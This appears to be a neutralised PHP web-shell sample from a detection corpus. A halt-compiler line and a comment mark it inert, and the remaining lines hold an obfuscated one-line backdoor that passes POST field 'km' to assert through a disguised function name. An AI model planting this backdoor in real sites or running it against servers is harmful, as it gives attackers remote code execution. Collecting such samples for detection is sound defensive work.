<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$f = strtolower('ASSERT');
$f($_POST['km']);
